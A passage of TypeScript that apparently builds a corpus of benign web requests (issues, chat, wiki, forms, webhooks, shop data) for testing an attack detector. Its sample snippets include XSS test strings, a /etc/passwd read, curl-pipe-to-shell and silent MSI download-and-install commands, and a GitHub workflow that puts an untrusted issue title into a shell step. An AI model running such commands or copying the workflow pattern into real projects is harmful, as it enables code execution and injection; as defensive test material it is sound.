    "const cases = [\n  '<script>alert(1)</script>',\n  '<img src=x onerror=alert(document.cookie)>',\n  '<a href=\"javascript:alert(1)\">x</a>',\n];\nfor (const c of cases) assert.equal(sanitize(c).includes('<script'), false);",
  ],
  [
    'Read users from passwd',
    'python',
    'with open("/etc/passwd") as f:\n    users = [line.split(":")[0] for line in f if not line.startswith("#")]\nprint(users)',
  ],
  [
    'Install script',
    'bash',
    'curl -fsSL https://get.teamspace.example.com/cli.sh | sh\neval "$(teamspace completion bash)"\necho \'export PATH="$HOME/.teamspace/bin:$PATH"\' >> ~/.bashrc',
  ],
  [
    'Jinja email template',
    'jinja',
    'Hello {{ user.name }},\n{% for issue in issues %}- {{ issue.key }}: {{ issue.summary|e }}\n{% endfor %}\n{{ config.SITE_URL }}/settings',
  ],
  [
    'Mongo cleanup',
    'javascript',
    'db.sessions.deleteMany({ expiresAt: { $lt: new Date() } });\ndb.users.find({ $where: "this.logins > 100" }).count();',
  ],
  [
    'Log4j config',
    'xml',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    '<Configuration status="WARN">\n  <Appenders>\n    <Console name="Console"><PatternLayout pattern="%d ${sys:app.name} %-5p %m%n"/></Console>\n  </Appenders>\n</Configuration>',
  ],
  [
    'PowerShell: download agent',
    'powershell',
    'Invoke-WebRequest -Uri "https://dl.teamspace.example.com/agent.msi" -OutFile "$env:TEMP\\agent.msi"\nStart-Process msiexec.exe -ArgumentList "/i $env:TEMP\\agent.msi /qn" -Wait',
  ],
  [
    'Nginx metadata block',
    'nginx',
    '# block instance metadata from containers\nlocation / {\n    deny 169.254.169.254;\n    proxy_pass http://127.0.0.1:3000;\n}',
  ],
];
const FILE_CONTENTS: readonly (readonly [string, string])[] = [
  [
    'scripts/deploy.sh',
    '#!/usr/bin/env bash\nset -euo pipefail\nVERSION=$(git describe --tags)\nssh deploy@app-1 "cd /srv/app && ./bin/migrate && sudo systemctl restart app"\ncurl -fsS -X POST "$SLACK_HOOK" -d "{\\"text\\":\\"Deployed $VERSION\\"}"',
  ],
  [
    'db/migrations/0043_restore_trgm.sql',
    '-- restore the index dropped by 0042\nCREATE EXTENSION IF NOT EXISTS pg_trgm;\nCREATE INDEX CONCURRENTLY IF NOT EXISTS issues_title_trgm ON issues USING gin (title gin_trgm_ops);\nSELECT pg_sleep(1);\nANALYZE issues;',
  ],
  [
    '.github/workflows/triage.yml',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    'name: triage\non:\n  issues:\n    types: [opened]\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo "Title: ${{ github.event.issue.title }}"\n          gh issue edit ${{ github.event.issue.number }} --add-label triage',
  ],
  [
    'Dockerfile',
    'FROM python:3.12-slim\nRUN apt-get update && apt-get install -y --no-install-recommends gcc && rm -rf /var/lib/apt/lists/*\nCOPY . /app\nRUN pip install --no-cache-dir -r /app/requirements.txt\nENTRYPOINT ["python", "-m", "app"]',
  ],
  [
    'templates/notify.html',
    '<!doctype html>\n<html><body>\n<p>Hi {{ name }},</p>\n<script>window.dataLayer = window.dataLayer || [];</script>\n<a href="{{ url }}">Open issue</a>\n</body></html>',
  ],
];

// ---------------------------------------------------------------------------------------------------- clean

const clean: CorpusRequest[] = [];
function addClean(
  kind: string,
  method: string,
  path: string,
  ct: string | null,
  body: string,
  client: 'browser' | 'sdk' | 'curl' | 'hook' | 'any' = 'any',
  extra: Record<string, string> = {},
): void {
  clean.push({
    id: `t${clean.length + 1}`,
    kind,
    method,
    path,
    headers: headers(ct, client, extra),
    body,
  });
}
const J = 'application/json';
const JU = 'application/json; charset=utf-8';
const key = (): string => `${pick(PROJECTS)}-${int(1, 4999)}`;
const fence = (i: number): string => {
  const [lang, code] = nth(FENCES, i);
  return `\`\`\`${lang}\n${code}\n\`\`\``;
};
const description = (i: number): string => {
  const steps = nth(STEPS, i)
    .map((s, n) => `${n + 1}. ${s}`)
    .join('\n');
  const parts = [
    `**Steps to reproduce**\n${steps}`,
    `**Expected**: it works as in 3.17.\n**Actual**: ${pick(['the page spins forever', 'a 500 error', 'nothing happens', 'the command exits with code 1'])}.`,
  ];
  if (i % 3 === 0) parts.push(`\`\`\`\n${nth(LOGS, i / 3)}\n\`\`\``);
  if (i % 3 === 1) parts.push(nth(INLINE_CODE, i));
  parts.push(nth(ENVS, i));
  return parts.join('\n\n');
};

// issues (42): titles starting with a tool or a command, markdown descriptions
for (let i = 0; i < ISSUE_TITLES.length; i++) {
  addClean(
    'issue',
    'POST',
    '/rest/api/3/issue',
    J,
    json({
      fields: {
        project: { key: nth(PROJECTS, i) },
        issuetype: { name: pick(['Bug', 'Bug', 'Task', 'Story']) },
        summary: nth(ISSUE_TITLES, i),
        description: description(i),
        labels: i % 4 === 0 ? ['customer-reported', 'regression'] : [pick(['cli', 'wiki', 'api', 'mobile'])],
        priority: { name: pick(['Low', 'Medium', 'High', 'Highest']) },
        ...(i % 5 === 0 ? { customfield_10016: int(1, 8), components: [{ name: 'Search' }] } : {}),
      },
    }),
  );
}

// issue comments (40): inline code, fenced blocks in six languages
for (let i = 0; i < 40; i++) {
  const parts = [nth(COMMENT_OPENERS, i)];
  if (i % 2 === 0) parts.push(nth(INLINE_CODE, i + 3));
  parts.push(fence(i));
  if (i % 5 === 1) parts.push(fence(i + 7));
  const closer = nth(COMMENT_CLOSERS, i);
  if (closer !== '') parts.push(closer);
  const text = parts.join('\n\n');
  if (i % 6 === 5)
    addClean(
      'comment',
      'PUT',
      `/rest/api/3/issue/${key()}/comment/${int(10000, 99999)}`,
      J,
      json({ body: text, visibility: { type: 'role', value: 'Developers' } }),
    );
  else addClean('comment', 'POST', `/rest/api/3/issue/${key()}/comment`, J, json({ body: text }));
}

// wiki pages (16): editor storage HTML
for (let i = 0; i < 16; i++) {
  const id = int(100000, 999999);
  if (i % 3 === 0)
    addClean(
      'wiki-page',
      'POST',
      '/wiki/api/v2/pages',
      J,
      json({
        spaceId: String(int(10000, 99999)),
        status: 'current',
        title: nth(WIKI_TITLES, i),
        parentId: String(int(100000, 999999)),
        body: { representation: 'storage', value: nth(WIKI_BODIES, i) },
      }),
      'browser',
    );
  else
    addClean(
      'wiki-page',
      'PUT',
      `/wiki/api/v2/pages/${id}`,
      J,
      json({
        id: String(id),
        status: 'current',
        title: nth(WIKI_TITLES, i),
        body: { representation: 'storage', value: nth(WIKI_BODIES, i) },
        version: { number: int(2, 40), message: pick(['', 'typo', 'update timeline', 'add table']) },
      }),
      'browser',
    );
}

// chat (40): messages, thread replies, edits, reactions
for (let i = 0; i < 40; i++) {
  const text = nth(CHAT_MESSAGES, i);
  const channel = pick(['C04DEPLOYS', 'C02GENERAL', 'C05INC2291', 'D07ANA4KENJI', 'G01PLATFORM']);
  const r = i % 4;
  if (r === 0)
    addClean(
      'chat',
      'POST',
      '/api/chat.postMessage',
      JU,
      json({ channel, text, unfurl_links: true }),
      'browser',
    );
  else if (r === 1)
    addClean(
      'chat',
      'POST',
      '/api/chat.postMessage',
      JU,
      json({
        channel,
        text,
        thread_ts: `1732${int(100000, 999999)}.${int(100000, 999999)}`,
        reply_broadcast: false,
      }),
      'sdk',
    );
  else if (r === 2)
    addClean(
      'chat',
      'POST',
      '/api/chat.update',
      JU,
      json({
        channel,
        ts: `1732${int(100000, 999999)}.${int(100000, 999999)}`,
        text,
        blocks: [{ type: 'section', text: { type: 'mrkdwn', text } }],
      }),
      'browser',
    );
  else
    addClean(
      'chat',
      'POST',
      '/api/v1/channels/messages',
      J,
      json({
        channel_id: channel,
        message: text,
        mentions: text.includes('@') ? [pick(HANDLES)] : [],
        attachments: [],
      }),
      'sdk',
    );
}

// prose with SQL- and shell-sounding words (25), in the three writing surfaces
for (let i = 0; i < WORDY_PROSE.length; i++) {
  const text = nth(WORDY_PROSE, i);
  if (i % 3 === 0) addClean('prose', 'POST', `/rest/api/3/issue/${key()}/comment`, J, json({ body: text }));
  else if (i % 3 === 1)
    addClean('prose', 'POST', '/api/chat.postMessage', JU, json({ channel: 'C02GENERAL', text }), 'browser');
  else
    addClean(
      'prose',
      'POST',
      '/rest/api/3/issue',
      J,
      json({
        fields: {
          project: { key: 'HR' },
          issuetype: { name: 'Task' },
          summary: text.split(/[;.,]/)[0],
          description: text,
        },
      }),
    );
}

// non-English text (20)
for (let i = 0; i < I18N.length; i++) {
  const text = nth(I18N, i);
  if (i % 2 === 0)
    addClean('i18n', 'POST', `/rest/api/3/issue/${key()}/comment`, JU, json({ body: text }), 'browser');
  else
    addClean('i18n', 'POST', '/api/chat.postMessage', JU, json({ channel: 'C02GENERAL', text }), 'browser');
}

// searches (30): free text, JQL, CQL, chat search
for (let i = 0; i < 30; i++) {
  const r = i % 4;
  if (r === 0)
    addClean(
      'search',
      'GET',
      `/rest/api/3/search/jql?jql=${enc(nth(JQLS, i / 4))}&maxResults=50&fields=summary,status,assignee`,
      null,
      '',
    );
  else if (r === 1)
    addClean(
      'search',
      'GET',
      `/wiki/rest/api/search?cql=${enc(nth(CQLS, i))}&limit=25&expand=content.space`,
      null,
      '',
      'browser',
    );
  else if (r === 2)
    addClean(
      'search',
      'GET',
      `/api/v1/search?q=${enc(nth(SEARCHES, i)).replace(/%20/g, '+')}&scope=${pick(['all', 'issues', 'pages', 'messages'])}&page=${int(1, 3)}`,
      null,
      '',
      'browser',
    );
  else
    addClean(
      'search',
      'GET',
      `/api/search.messages?query=${enc(`${nth(SEARCHES, i + 1)} in:#deploys from:@${pick(HANDLES)}`)}&sort=timestamp&count=20`,
      null,
      '',
      'sdk',
    );
}

// JSON:API (15): issues, users, products
for (let i = 0; i < 15; i++) {
  const r = i % 3;
  const ct = 'application/vnd.api+json';
  const extra = { accept: 'application/vnd.api+json' };
  if (r === 0)
    addClean(
      'json-api',
      'POST',
      '/v3/issues',
      ct,
      json({
        data: {
          type: 'issues',
          attributes: {
            summary: nth(ISSUE_TITLES, i + 11),
            description: nth(WORDY_PROSE, i),
            priority: 'medium',
          },
          relationships: {
            project: { data: { type: 'projects', id: String(int(1, 40)) } },
            assignee: { data: { type: 'users', id: String(int(100, 999)) } },
            labels: { data: [{ type: 'labels', id: 'regression' }] },
          },
        },
      }),
      'sdk',
      extra,
    );
  else if (r === 1)
    addClean(
      'json-api',
      'PATCH',
      `/v3/issues/${int(1000, 99999)}`,
      ct,
      json({
        data: {
          type: 'issues',
          id: String(int(1000, 99999)),
          attributes: {
            status: pick(['in_progress', 'done', 'blocked']),
            resolution_note: nth(CHAT_MESSAGES, i),
          },
        },
      }),
      'sdk',
      extra,
    );
  else
    addClean(
      'json-api',
      'GET',
      `/v3/issues?filter[status]=open&filter[assignee]=${pick(HANDLES)}&include=assignee,labels&sort=-updated,priority&page[size]=25&fields[issues]=summary,status`,
      null,
      '',
      'browser',
      extra,
    );
}

// merge-patch (10) and json-patch (10)
for (let i = 0; i < 10; i++) {
  addClean(
    'merge-patch',
    'PATCH',
    `/rest/api/3/issue/${key()}`,
    'application/merge-patch+json',
    json(
      i % 3 === 0
        ? { fields: { summary: nth(ISSUE_TITLES, i + 5), labels: null, customfield_10020: null } }
        : i % 3 === 1
          ? { fields: { description: description(i + 1), assignee: { accountId: hex(24) } } }
          : { settings: { notifications: { email: false, digest: 'daily' }, timezone: 'Europe/Berlin' } },
    ),
    'sdk',
  );
  addClean(
    'json-patch',
    'PATCH',
    i % 2 === 0 ? `/v3/issues/${int(1000, 99999)}` : `/cms/api/articles/${int(1, 900)}`,
    'application/json-patch+json',
    json(
      i % 2 === 0
        ? [
            { op: 'test', path: '/version', value: int(1, 30) },
            { op: 'replace', path: '/fields/summary', value: nth(ISSUE_TITLES, i + 20) },
            { op: 'add', path: '/labels/-', value: 'needs-triage' },
            { op: 'remove', path: '/fields/customfield_10020' },
          ]
        : [
            { op: 'replace', path: '/title', value: nth(WIKI_TITLES, i) },
            { op: 'replace', path: '/body', value: nth(WIKI_BODIES, i + 1) },
            { op: 'move', from: '/draft/tags', path: '/tags' },
          ],
    ),
    'sdk',
  );
}

// GraphQL (24)
const GQL = [
  {
    q: 'query IssueSearch($jql: String!, $first: Int = 25, $after: String) {\n  issueSearch(jql: $jql, first: $first, after: $after) {\n    edges { node { key summary status { name } assignee { displayName } } }\n    pageInfo { hasNextPage endCursor }\n  }\n}',
    v: (i: number) => ({
      jql: nth(JQLS, i),
      first: 50,
      after: i % 2 === 0 ? null : b64(`cursor:${int(1, 900)}`),
    }),
  },
  {
    q: 'mutation AddComment($input: AddCommentInput!) {\n  addComment(input: $input) { comment { id created } errors { message } }\n}',
    v: (i: number) => ({ input: { issueKey: key(), body: `${nth(COMMENT_OPENERS, i)}\n\n${fence(i + 2)}` } }),
  },
  {
    q: 'mutation UpdatePage($id: ID!, $title: String!, $body: String!) {\n  updatePage(id: $id, title: $title, body: { representation: STORAGE, value: $body }) { page { id version } }\n}',
    v: (i: number) => ({
      id: String(int(100000, 999999)),
      title: nth(WIKI_TITLES, i),
      body: nth(WIKI_BODIES, i + 3),
    }),
  },
  {
    q: 'mutation React($channel: ID!, $ts: String!, $name: String!) { addReaction(channel: $channel, ts: $ts, name: $name) { ok } }',
    v: () => ({
      channel: 'C04DEPLOYS',
      ts: `1732${int(100000, 999999)}.000100`,
      name: pick(['tada', 'eyes', 'white_check_mark', '+1']),
    }),
  },
  {
    q: 'query Product($handle: String!) { product(handle: $handle) { title descriptionHtml variants(first: 10) { nodes { sku price { amount currencyCode } } } } }',
    v: () => ({
      handle: pick([
        'chefs-knife-8-inch',
        'union-canvas-tote',
        'select-coffee-beans-1kg',
        'drop-stop-gap-filler',
      ]),
    }),
  },
  {
    q: 'mutation CreateSnippet($input: SnippetInput!) { createSnippet(input: $input) { snippet { id url } } }',
    v: (i: number) => {
      const [title, language, code] = nth(SNIPPET_CODE, i);
      return { input: { title, language, visibility: 'PROJECT', code } };
    },
  },
];
for (let i = 0; i < 24; i++) {
  const g = nth(GQL, i);
  if (i % 8 === 7)
    addClean(
      'graphql',
      'POST',
      '/graphql',
      'application/graphql',
      '{ viewer { displayName notifications(first: 5, unread: true) { nodes { title createdAt } } } }',
      'browser',
    );
  else
    addClean(
      'graphql',
      'POST',
      '/graphql',
      J,
      json({ operationName: null, query: g.q, variables: g.v(i) }),
      'any',
    );
}

// NDJSON bulk imports (8): issues migrated from another tracker, chat history
for (let i = 0; i < 8; i++) {
  const lines: string[] = [];
  for (let n = 0; n < 5; n++) {
    if (i % 2 === 0)
      lines.push(
        json({
          external_id: `GH-${int(1, 9000)}`,
          summary: nth(ISSUE_TITLES, i * 6 + n),
          body: n % 2 === 0 ? nth(WORDY_PROSE, i + n) : description(i + n),
          reporter: nth(PEOPLE, i + n),
          created: `2025-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}T${String(int(0, 23)).padStart(2, '0')}:14:00Z`,
        }),
      );
    else
      lines.push(
        json({
          ts: `1731${int(100000, 999999)}.${int(100000, 999999)}`,
          user: pick(HANDLES),
          text: n % 3 === 2 ? nth(I18N, i + n) : nth(CHAT_MESSAGES, i * 6 + n),
          reactions: n % 2 === 0 ? [{ name: 'eyes', count: int(1, 5) }] : [],
        }),
      );
  }
  addClean(
    'ndjson',
    'POST',
    i % 2 === 0 ? '/rest/api/3/import/issues' : '/api/import/messages',
    'application/x-ndjson',
    `${lines.join('\n')}\n`,
    'sdk',
  );
}

// forms (14): login, OAuth, search form, CMS contact form, blog comments, newsletter, SAML
for (let i = 0; i < 14; i++) {
  const FF = 'application/x-www-form-urlencoded';
  const r = i % 7;
  if (r === 0)
    addClean(
      'form',
      'POST',
      '/login',
      FF,
      form({
        os_username: `${pick(HANDLES)}@acme.example`,
        os_password: pick(['Tr0ub4dor&3', 'correct horse battery staple', "p@ss'w0rd!2026", 'Sommer2026!#']),
        os_remember: 'on',
        os_destination: '/browse/OPS-1423',
      }),
      'browser',
    );
  else if (r === 1)
    addClean(
      'form',
      'POST',
      '/oauth/token',
      FF,
      form({
        grant_type: 'authorization_code',
        code: hex(40),
        redirect_uri: 'https://zapier.com/dashboard/auth/oauth/return/TeamspaceCLIAPI/',
        client_id: hex(24),
        code_verifier: `${hex(32)}-${hex(11)}`,
      }),
      'sdk',
    );
  else if (r === 2)
    addClean(
      'form',
      'POST',
      '/shop/contact',
      FF,
      form({
        name: nth(PEOPLE, i),
        email: `${pick(HANDLES)}@example.org`,
        subject: pick(['Order #48213 not delivered', 'Wholesale inquiry', 'Return of a damaged item']),
        message: pick([
          'Hi, I ordered the 8" chef\'s knife on 12/11 and it hasn\'t arrived. Tracking says "delivered" but nothing\'s here. Can you help?',
          'Hello! We are a café in Berlin & would like to order 20+ bags of the select beans every month — is there a discount?',
          'The box was damaged (see photo) and the lid doesn’t close. I’d like a replacement, or a refund if that’s easier.',
        ]),
      }),
      'browser',
    );
  else if (r === 3)
    addClean(
      'form',
      'POST',
      `/cms/blog/${pick(['release-3-18', 'remote-teams-101', 'why-we-moved-to-nats'])}/comments`,
      FF,
      form({
        author: nth(PEOPLE, i),
        comment: nth(WORDY_PROSE, i),
        'g-recaptcha-response': `03AFcWeA${hex(60)}`,
      }),
      'browser',
    );
  else if (r === 4)
    addClean(
      'form',
      'POST',
      '/newsletter/subscribe',
      FF,
      form({ email: `${pick(HANDLES)}+news@example.org`, lists: 'product,events', consent: '1' }),
      'browser',
    );
  else if (r === 5)
    addClean(
      'form',
      'GET',
      `/shop/search?${form({ q: pick(['8" knife', 'tote bag', 'coffee & tea', 'gift card €50']), sort: 'price-asc' })}`,
      null,
      '',
      'browser',
    );
  else
    addClean(
      'form',
      'POST',
      '/sso/saml/acs',
      FF,
      form({
        SAMLResponse: b64(
          `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_${hex(32)}" Version="2.0" IssueInstant="2026-11-29T07:${int(10, 59)}:00Z" Destination="https://acme.teamspace.example.com/sso/saml/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://sts.windows.net/${hex(8)}/</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:Response>`,
        ),
        RelayState: '/wiki/spaces/ENG/overview',
      }),
      'browser',
    );
}

// webhooks from other services (15)
const COMMIT_MESSAGES = [
  'fix: escape quotes in JQL builder (OPS-1423)',
  'chore(deps): bump lodash from 4.17.20 to 4.17.21',
  'feat(search): add OR filter to quick filters',
  'Revert "drop the legacy exec endpoint"\n\nThis reverts commit 3f2a9c1; the mobile app still calls it.',
  'perf: select only needed columns in board query (-35% p95)',
  'docs: explain `rm -rf ~/.teamspace/cache` in troubleshooting',
  'Merge pull request #3412 from acme/fix/union-type-parsing',
];
for (let i = 0; i < 15; i++) {
  const r = i % 5;
  if (r === 0)
    addClean(
      'webhook',
      'POST',
      '/hooks/github/4f2c9a',
      J,
      json({
        ref: 'refs/heads/main',
        before: hex(40),
        after: hex(40),
        repository: { full_name: 'acme/web', private: true },
        pusher: { name: 'ana', email: 'ana@acme.example' },
        commits: [0, 1].map((n) => ({
          id: hex(40),
          message: nth(COMMIT_MESSAGES, i + n),
          author: { name: nth(PEOPLE, i + n), email: `${nth(HANDLES, i + n)}@acme.example` },
          modified: ['src/search/jql.ts', 'README.md'],
        })),
      }),
      'hook',
      {
        'user-agent': 'GitHub-Hookshot/a1b2c3d',
        'x-github-event': 'push',
        'x-github-delivery': `${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}`,
        'x-hub-signature-256': `sha256=${hex(64)}`,
      },
    );
  else if (r === 1)
    addClean(
      'webhook',
      'POST',
      '/hooks/github/4f2c9a',
      J,
      json({
        action: 'opened',
        number: int(100, 4000),
        pull_request: {
          title: nth(ISSUE_TITLES, i),
          body: `Fixes ${key()}\n\n## What\n${nth(INLINE_CODE, i)}\n\n## How to test\n${fence(i + 4)}`,
          head: { ref: pick(['fix/jql-quotes', 'feat/union-filters', 'chore/drop-ie11']) },
          base: { ref: 'main' },
        },
      }),
      'hook',
      {
        'user-agent': 'GitHub-Hookshot/a1b2c3d',
        'x-github-event': 'pull_request',
        'x-hub-signature-256': `sha256=${hex(64)}`,
      },
    );
  else if (r === 2)
    addClean(
      'webhook',
      'POST',
      '/hooks/sentry',
      J,
      json({
        action: 'triggered',
        data: {
          event: {
            title: "TypeError: Cannot read properties of undefined (reading 'map')",
            culprit: 'src/IssueList.tsx in IssueList',
            level: 'error',
            url: `https://sentry.io/api/0/projects/acme/web/events/${hex(32)}/`,
            exception: { values: [{ type: 'TypeError', value: nth(LOGS, 7) }] },
            tags: [
              ['browser', 'Chrome 131'],
              ['release', 'web@3.18.2'],
            ],
          },
        },
      }),
      'hook',
      { 'user-agent': 'sentry', 'sentry-hook-resource': 'event_alert', 'sentry-hook-signature': hex(64) },
    );
  else if (r === 3)
    addClean(
      'webhook',
      'POST',
      '/shop/hooks/stripe',
      J,
      json({
        id: `evt_${hex(24)}`,
        object: 'event',
        type: pick(['invoice.paid', 'checkout.session.completed', 'charge.refunded']),
        data: {
          object: {
            id: `cs_live_${hex(24)}`,
            amount_total: int(990, 24900),
            currency: 'eur',
            customer_details: {
              name: nth(PEOPLE, i),
              address: { line1: "12 O'Connell St., Apt #4", city: 'Dublin', country: 'IE' },
            },
            metadata: { order_id: String(int(40000, 49999)), note: 'Leave at the door; ring twice' },
          },
        },
      }),
      'hook',
      {
        'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
        'stripe-signature': `t=1732867${int(100, 999)},v1=${hex(64)}`,
      },
    );
  else
    addClean(
      'webhook',
      'POST',
      '/hooks/pagerduty',
      J,
      json({
        event: {
          event_type: 'incident.triggered',
          data: {
            title: pick([
              'CPU > 90% on db-primary for 10 minutes',
              'HTTP 5xx rate above 2% on api-gateway',
              'Disk /var/lib/postgresql 95% full',
            ]),
            urgency: 'high',
            html_url: `https://acme.pagerduty.com/incidents/Q${hex(12).toUpperCase()}`,
          },
        },
      }),
      'hook',
      { 'user-agent': 'PagerDuty-Webhook/V3.0', 'x-pagerduty-signature': `v1=${hex(64)}` },
    );
}

/** Base64 of the start of a 64×64 RGBA PNG (signature, IHDR) followed by `tail` (hex) as its binary data. */
const pngStub = (tail: string): string =>
  Buffer.concat([
    Buffer.from('89504e470d0a1a0a0000000d49484452000000400000004008060000', 'hex'),
    Buffer.from(tail, 'hex'),
  ]).toString('base64');

// attachment metadata (10)
const FILES: readonly (readonly [string, string])[] = [
  ['Q3 report (final) v2.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
  ['screenshot 2026-11-27 at 14.02.11.png', 'image/png'],
  ['log.txt', 'text/plain'],
  ['backup_2026-11-28.sql.gz', 'application/gzip'],
  ['setup.sh', 'application/x-sh'],
  ['Präsentation_Übersicht.pdf', 'application/pdf'],
  ['議事録_11月.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
  ['.env.example', 'text/plain'],
  ['architecture [draft].drawio', 'application/vnd.jgraph.mxfile'],
  ['HAR export – login loop.har', 'application/json'],
];
for (let i = 0; i < 10; i++) {
  const [name, mime] = nth(FILES, i);
  addClean(
    'file',
    'POST',
    i % 2 === 0
      ? `/rest/api/3/issue/${key()}/attachments/metadata`
      : '/wiki/api/v2/attachments/upload-session',
    J,
    json({
      filename: name,
      mimeType: mime,
      size: int(120, 48_000_000),
      sha256: hex(64),
      folder: pick(['/Shared/Finance/2026/Q3/', '/ENG/Runbooks/', '/Incidents/2026-11-14/', '/']),
      comment: pick([
        '',
        'as discussed',
        'latest version, replaces v1',
        'Logs from the failing runner (redacted)',
      ]),
      ...(i % 4 === 3 ? { thumbnail: `data:image/png;base64,${pngStub(hex(24))}` } : {}),
    }),
    'browser',
  );
}

// snippets and file contents (12): the excluded code fields
for (let i = 0; i < 12; i++) {
  const r = i % 3;
  if (r === 0 || r === 1) {
    const [title, language, code] = nth(SNIPPET_CODE, i);
    addClean(
      'snippet',
      'POST',
      `/rest/api/3/issue/${key()}/snippets`,
      J,
      json({
        title,
        language,
        visibility: 'project',
        code,
        description: `Snippet for ${nth(ISSUE_TITLES, i)}`,
      }),
      'browser',
    );
  } else {
    const [path, content] = nth(FILE_CONTENTS, i);
    if (i % 2 === 0)
      addClean(
        'snippet',
        'POST',
        '/api/v1/snippets',
        J,
        json({
          title: `${path} from the failing job`,
          files: [
            { file_path: path, content },
            { file_path: 'NOTES.md', content: `Context: ${nth(COMMENT_OPENERS, i)}` },
          ],
        }),
        'sdk',
      );
    else
      addClean(
        'snippet',
        'PUT',
        `/api/v1/repos/acme/runbooks/files/${enc(path)}`,
        J,
        json({ message: `Update ${path}`, branch: 'main', content, encoding: 'text' }),
        'curl',
      );
  }
}

// automation rules and shop notification templates (10): smart values and Liquid
const AUTOMATION_TEXTS = [
  "Thanks {{reporter.displayName}}! We'll triage {{issue.key}} within 2 business days.",
  '{{issue.key}} moved to {{issue.status.name}} by {{initiator.displayName}}',
  'Due {{issue.duedate.plusBusinessDays(3).jiraDate}} — please update the estimate ({{issue.timetracking.originalEstimate}}).',
  '{{#if(equals(issue.priority.name, "Highest"))}}Paging the on-call: {{issue.url}}{{/}}',
  'Sprint {{sprint.name}} ends on {{sprint.endDate.format("dd MMM")}}: {{lookupIssues.size}} open issues.',
];
const LIQUID = [
  'Hi {{ customer.first_name }}, your order {{ order.name }} has shipped! Track it here: {{ fulfillment.tracking_url }}',
  '{% if order.total_price > 5000 %}You got free shipping 🎉{% else %}Shipping: {{ order.shipping_price | money }}{% endif %}',
  '{% for line in order.line_items %}{{ line.quantity }} × {{ line.title }} — {{ line.final_line_price | money }}\n{% endfor %}',
];
for (let i = 0; i < 10; i++) {
  if (i % 2 === 0)
    addClean(
      'automation',
      'POST',
      '/rest/api/3/automation/rules',
      J,
      json({
        name: pick(['Auto-reply to new bugs', 'Notify chat on status change', 'Escalate highest priority']),
        trigger: { type: 'issue_created', conditions: [{ field: 'issuetype', op: 'equals', value: 'Bug' }] },
        actions: [
          { type: 'comment', body: nth(AUTOMATION_TEXTS, i / 2) },
          { type: 'send_chat', channel: '#deploys', message: nth(AUTOMATION_TEXTS, i / 2 + 1) },
        ],
        enabled: true,
      }),
      'browser',
    );
  else
    addClean(
      'automation',
      'PUT',
      `/shop/admin/api/notifications/${pick(['shipping_confirmation', 'order_confirmation', 'refund'])}`,
      J,
      json({
        subject: 'Your order {{ order.name }} is on its way',
        body_liquid: nth(LIQUID, i),
        enabled: true,
      }),
      'browser',
    );
}

// shop and CMS (22): products, orders, reviews, articles, redirects
const PRODUCTS = [
  [
    'Select Series Chef’s Knife 8"',
    '<p>Forged from <strong>VG-10</strong> steel, 61 HRC. <em>Hand wash only.</em></p><ul><li>Blade: 20 cm</li><li>Weight: 180 g</li></ul>',
  ],
  ['Union Canvas Tote', '<p>Heavy 16 oz canvas; fits a 15" laptop. Made in Portugal 🇵🇹.</p>'],
  [
    'Drop-Stop Gap Filler (2-pack)',
    '<p>Stops phones from dropping between the seat &amp; console. <a href="/pages/size-guide">Size guide</a></p>',
  ],
  [
    'Coffee Beans "Sleepless" 1 kg',
    '<p>Dark roast, notes of cocoa &amp; cherry. 100 % arabica.</p><table><tr><td>Origin</td><td>Colombia, Huila</td></tr></table>',
  ],
];
for (let i = 0; i < 22; i++) {
  const r = i % 5;
  const [title, html] = nth(PRODUCTS, i);
  if (r === 0)
    addClean(
      'shop',
      'PUT',
      `/shop/admin/api/products/${int(1000, 9999)}`,
      J,
      json({
        product: {
          title,
          body_html: html,
          vendor: 'Acme Goods',
          tags: 'bestseller, gift-ideas, 50% off',
          variants: [
            {
              sku: `AC-${int(1000, 9999)}`,
              price: `${int(5, 199)}.${int(10, 99)}`,
              inventory_quantity: int(0, 400),
            },
          ],
          seo: { title: `${title} | Acme`, description: 'Free returns within 30 days.' },
        },
      }),
      'browser',
    );
  else if (r === 1)
    addClean(
      'shop',
      'POST',
      '/shop/api/orders',
      J,
      json({
        email: `${pick(HANDLES)}@example.org`,
        line_items: [{ variant_id: int(10000, 99999), quantity: int(1, 4) }],
        shipping_address: {
          name: nth(PEOPLE, i),
          address1: pick([
            "12 O'Connell St., Apt #4",
            'Hauptstraße 5/2',
            'Calle de Alcalá 48, 3º izq.',
            '1-2-3 Shibuya, Shibuya-ku',
          ]),
          city: pick(['Dublin', 'Wien', 'Madrid', 'Tokyo']),
          zip: String(int(1000, 99999)),
        },
        note: pick([
          '',
          'Gift — please remove the price tag',
          'Leave with the neighbour (#3) if not home',
          'Bitte nicht klingeln, Baby schläft 😴',
        ]),
        discount_codes: i % 2 === 0 ? ['BLACKFRIDAY'] : [],
      }),
      'browser',
    );
  else if (r === 2)
    addClean(
      'shop',
      'POST',
      `/shop/api/products/${int(1000, 9999)}/reviews`,
      J,
      json({
        rating: int(2, 5),
        title: pick(['Drop-dead gorgeous', 'Does what it says', 'Meh', 'Select this one, not the cheap one']),
        body: pick([
          'Sharp out of the box; cut a tomato paper-thin. Would buy again 5/5.',
          'The tote is great but the strap started fraying after 2 months — or maybe I overload it 😂',
          'Not bad, not great. 3 stars because shipping took 9 days and the box was crushed.',
          'Best beans I had this year. I grind them for 20 sec, 1:16 ratio, 93°C water.',
        ]),
        author: nth(PEOPLE, i),
      }),
      'browser',
    );
  else if (r === 3)
    addClean(
      'cms',
      i % 2 === 0 ? 'POST' : 'PUT',
      i % 2 === 0 ? '/cms/api/articles' : `/cms/api/articles/${int(1, 900)}`,
      J,
      json({
        title: pick([
          'Release 3.18: faster boards',
          'Remote teams 101',
          'Why we moved to NATS',
          'Black Friday: 50% off everything',
        ]),
